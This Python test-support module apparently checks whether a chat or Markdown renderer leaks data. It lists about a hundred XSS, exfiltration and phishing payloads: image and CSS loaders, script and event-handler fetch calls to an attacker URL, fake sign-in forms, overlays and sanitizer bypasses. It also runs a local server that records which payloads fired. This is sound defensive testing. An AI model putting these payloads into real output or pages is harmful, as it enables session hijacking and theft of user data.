"""Texts that try to carry words out of the page, to act in it or to cover it, and who notices when one does."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

__all__ = ["ATTACKS", "Catcher", "attack", "catching"]

# `URL` is an address of the attacker's that tells which case it was; `//HOST` the same without its scheme.
ATTACKS = [
    # Markdown that loads or leads away
    "![x](URL)",
    '![x](URL "title")',
    "![x](<URL>)",
    "![x][r]\n\n[r]: URL",
    "![r]\n\n[r]: URL",
    "[![x](URL)](https://example.org)",
    "![x](//HOST)",
    "<URL>",
    "[click][r]\n\n[r]: URL",
    "[1](URL)",
    "[x](javascript:fetch('URL'))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![](/logout)",
    "![](/chat/stop/mine)",
    "| a |\n|---|\n| ![x](URL) |",
    "word[^1]\n\n[^1]: ![x](URL)",
    "```mermaid\ngraph LR; A[\"<img src='URL'>\"]\n```",
    "```html\n</code></pre><img src=URL>\n```",
    "`</code><img src=URL>`",
    "**</strong><img src=URL>**",
    "- </li></ul><img src=URL>",
    "# </strong><img src=URL>",
    r"$$\includegraphics{URL}$$",
    r"\(\href{URL}{x}\)",
    # HTML that loads by itself
    "<img src=URL>",
    "<IMG/SRC=URL>",
    "<img srcset='URL 1x'>",
    "<img src=URL referrerpolicy=unsafe-url loading=eager>",
    "<img src=/logout>",
    "<picture><source srcset='URL'><img></picture>",
    "<svg><image href='URL'/></svg>",
    "<svg><image xlink:href='URL'/></svg>",
    "<svg><use href='URL#x'/></svg>",
    "<svg><filter id=f><feImage href='URL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "<svg><foreignObject><img src=URL></foreignObject></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    "<div style=\"background:url('URL')\">x</div>",
    "<div style=\"background-image:image-set('URL' 1x)\">x</div>",
    "<ul style=\"list-style-image:url('URL')\"><li>x</ul>",
    "<div style=\"border:9px solid;border-image:url('URL') 1\">x</div>",
    "<p style=\"width:9px;height:9px;mask-image:url('URL')\">x</p>",
    "<p style=\"content:url('URL')\">x</p>",
    "<style>@import url('URL');</style>",
    "<style>main{background:url('URL')}</style>",
    "<style>@font-face{font-family:e;src:url('URL')}*{font-family:e}</style>",
    "<link rel=stylesheet href='URL'>",
    "<link rel=preload as=image href='URL'>",
    "<link rel=prefetch href='URL'>",
    "<link rel=icon href='URL'>",
    "<table background='URL'><tr><td>x</table>",
    "<table><tr><td background='URL'>x</table>",
    "<body background='URL'>",
    "<input type=image src='URL'>",
    "<video poster='URL'></video>",
    "<video src='URL' autoplay muted></video>",
    "<video autoplay muted><source src='URL'></video>",
    "<audio src='URL' preload=auto></audio>",
    "<video src=x><track default src='URL'></video>",
    "<embed src='URL'>",
    "<object data='URL'></object>",
    "<iframe src='URL'></iframe>",
    "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "<frameset><frame src='URL'></frameset>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href='URL/'><img src=x>",
    "<a href='#' ping='URL'>x</a>",
    # script
    "<script>fetch('URL')</script>",
    "<script src='URL'></script>",
    "<img src=x onerror=\"fetch('URL')\">",
    "<svg onload=\"fetch('URL')\">",
    "<details open ontoggle=\"fetch('URL')\">x</details>",
    "<input autofocus onfocus=\"fetch('URL')\">",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "{{constructor.constructor(\"fetch('URL')\")()}}",
    "${fetch('URL')}",
    # what misleads a reader
    "<form action='URL'><input name=password type=password><button>Sign in</button></form>",
    "<form action=/logout><button>Continue</button></form>",
    "<button formaction='URL' type=submit>Continue</button>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session ended</div>",
    "<div style='position:absolute;top:0;left:0;width:300vw;height:9000px;z-index:99999;background:#fff'>x</div>",
    "<dialog open style='position:fixed;inset:0;width:100%;height:100%'>Sign in</dialog>",
    "<style>textarea{display:none}</style>",
    "<textarea>",
    # ways around a filter
    "\"><img src='URL'>",
    '\'><img src="URL">',
    "</p></div></article></main><img src=URL>",
    "<!--><img src=URL>-->",
    "<!-- <img title='--><img src=URL>'>",
    "<![CDATA[<img src=URL>]]>",
    "<noscript><p title='</noscript><img src=URL>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=URL&gt;'>",
    "<svg></p><style><a title='</style><img src=URL>'>",
    "<div><template shadowrootmode=open><img src=URL></template></div>",
    "&lt;img src=URL&gt;",
    "&#60;img src=URL&#62;",
    "<im\x00g src=URL>",
    "<im\u2066g src=URL>",
    "<scr\u200bipt>fetch('URL')</script>",
    "\u202e<img src=URL>\u202c",
]


def attack(number: int, place: str, origin: str) -> str:
    """Return an attack whose address tells its number and the place in which it was shown."""
    address = f"{origin}/hit/{place}-{number}"
    return ATTACKS[number].replace("//HOST", address.partition(":")[2]).replace("URL", address)


class Catcher:
    """The attacker's server: knows what reached it."""

    def __init__(self, origin: str) -> None:
        self.origin = origin
        self.hits: set[str] = set()
        self.news = threading.Event()

    def numbers(self) -> set[int]:
        """Return the numbers of the cases that got out."""
        return {int(hit.rpartition("-")[2]) for hit in self.hits if "/hit/" in hit and hit[-1].isdecimal()}


@contextmanager
def catching() -> Iterator[Catcher]:
    """Run the attacker's server on another port of this machine, which is another origin."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            catcher.hits.add(self.path.partition("?")[0].rstrip("/x"))
            catcher.news.set()
            self.send_response(404)
            self.send_header("content-length", "0")
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    catcher = Catcher(f"http://127.0.0.1:{server.server_address[1]}")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield catcher
    finally:
        server.shutdown()
        server.server_close()
